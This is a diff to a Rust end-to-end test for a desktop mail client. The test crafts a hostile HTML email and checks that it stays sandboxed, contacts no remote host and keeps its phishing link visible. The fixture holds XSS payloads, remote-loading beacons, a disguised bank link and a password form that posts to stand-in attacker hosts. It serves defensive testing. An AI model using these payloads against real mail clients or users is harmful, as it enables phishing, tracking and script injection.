@@ -8,16 +8,25 @@ use nova_testkit::{Dovecot, SmtpServer};
 use serde_json::json;
 
 use crate::harness::{Home, PATIENCE, Window};
+use crate::hostile_page::Elsewhere;
 
 const CARD: &str = "[data-testid=approval-card][data-armed=true]";
 const CONTACT: &str = "CRM/People/Ilse Brandvik.md";
 const ILSE: &str = "---\ntype: contact\nemail: ilse@fernhill.example\nstage: customer\n---\n";
 
-/// A hostile mail that must not become part of the page.
-const HOSTILE: &str = "From: \"<b>Parcel desk</b>\" <x@evil.example>\nSubject: <img src=x onerror=document.title=1>\n\
-    Message-ID: <2@evil.example>\nContent-Type: text/html; charset=utf-8\n\n\
-    <p>Confirm <a href='https://evil.example/pay'>www.bank.example</a>.</p><img src='https://evil.example/seen'>\
-    <script>document.title = 'taken'</script>\n";
+/// A hostile mail that must neither leave its frame nor contact that host.
+fn hostile(host: &str) -> String {
+    format!(
+        "From: \"<b>Parcel desk</b>\" <x@evil.example>\nSubject: <img src=x onerror=document.title=1>\n\
+         Message-ID: <2@evil.example>\nContent-Type: text/html; charset=utf-8\n\n\
+         <base href='http://{host}/'><meta http-equiv=refresh content='0;url=http://{host}/'>\
+         <style>@import 'http://{host}/a.css'; body {{ background: url(http://{host}/b) }}</style>\
+         <p style='position:fixed;inset:0;color:#222'>Confirm <a href='https://evil.example/pay'>www.bank.example</a>.</p>\
+         <img src='http://{host}/seen'><img src=x onerror=\"document.title='taken'\"><iframe src='http://{host}/'></iframe>\
+         <form action='http://{host}/'><input name=password></form><svg><image href='http://{host}/c'/></svg>\
+         <script>document.title = 'taken'</script>\n"
+    )
+}
 
 fn from_ilse(id: u8, subject: &str, more: &str, text: &str) -> String {
     format!(
@@ -33,9 +42,13 @@ async fn mail_is_read_searched_for_and_logged() {
     put("Archive", "S", &from_ilse(1, "Quote, cold store", "", "Could you send a quote?"));
     let answer = "References: <1@fernhill.example>\n";
     put("INBOX", "", &from_ilse(3, "Re: Quote, cold store", answer, "The board agrees.\n\nRegards, Ilse"));
-    put("INBOX", "", HOSTILE);
+    let elsewhere = Elsewhere::new();
+    put("INBOX", "", &hostile(&elsewhere.host()));
     let before = server.messages("jane");
-    let home = Home::new().note(CONTACT, ILSE).mailboxes(&server, &[("Work", "jane")]);
+    let home = Home::new()
+        .note(CONTACT, ILSE)
+        .mailboxes(&server, &[("Work", "jane")])
+        .launcher("echo \"$*\" >>\"$HOME/opened\"");
     let window = Window::open(&home).await;
     window.resize(1440, 900).await;
     window.wait_for("[data-testid=composer-input]").await;
@@ -60,12 +73,35 @@ async fn mail_is_read_searched_for_and_logged() {
     window.wait_for_text("[data-testid=mail-logged]", "is as it was").await;
     assert_eq!(home.read_note(CONTACT), ILSE);
 
-    // A hostile mail is shown as text, and its link shows its target.
+    // A hostile mail is drawn in its frame, where its link shows its target and opens outside.
     window.click("[data-testid=mail-row]").await;
+    let drawn = "return document.querySelector('[data-testid=mail-page]')?.contentDocument?.body?.innerText.trim() === arguments[0]";
+    window.until("the mail", drawn, vec![json!("Confirm www.bank.example evil.example.")]).await;
+    let told = format!("1 remote image not loaded. Loading tells {}", elsewhere.host());
+    window.wait_for_text("[data-testid=mail-pictures]", &told).await;
+    window.click_in_frame("[data-testid=mail-page]", "a").await;
+    window.wait_for_file(&home.in_home("opened"), "https://evil.example/pay").await;
+    window.until("the mail, still", drawn, vec![json!("Confirm www.bank.example evil.example.")]).await;
+    let page = window
+        .ask(
+            "const { contentDocument, clientHeight } = document.querySelector('[data-testid=mail-page]');
+             const elements = [...contentDocument.body.querySelectorAll('*')].map(({ localName }) => localName).sort();
+             return [document.title, elements, contentDocument.defaultView.getComputedStyle(contentDocument.querySelector('p')).position, clientHeight < 300];",
+        )
+        .await;
+    assert_eq!(page, json!(["Nova", ["a", "img", "img", "p", "span"], "static", true]));
+    assert!(window.ask("return document.querySelector('[data-testid=skill-panel] b')").await.is_null());
+    window.click_named("Show as text").await;
     window.wait_for_text("[data-testid=mail-text]", "www.bank.example evil.example").await;
-    window.wait_for_text("[data-testid=mail-message]", "1 remote image not loaded").await;
-    let loaded = window.ask("return [document.title, document.querySelectorAll('[data-testid=skill-panel] img, [data-testid=skill-panel] b').length]").await;
-    assert_eq!((loaded[0] != "taken" && loaded[0] != "1", &loaded[1]), (true, &0.into()), "{loaded}");
+    elsewhere.assert_not_asked();
+
+    // Its image is on this machine, which no mail reaches, whatever its reader allows.
+    window.click_named("Show as HTML").await;
+    window.click_named("Load once").await;
+    window.wait_for_text(CARD, &format!("Load pictures from {}, this once?", elsewhere.host())).await;
+    window.click(&format!("{CARD} [data-testid=approval-once]")).await;
+    window.wait_for_text("[data-testid=mail-message]", "Some images were not loaded. 127.0.0.1").await;
+    elsewhere.assert_not_asked();
 
     window.press(&[], '/').await;
     window.wait_for_focus("[data-mail-search] input").await;
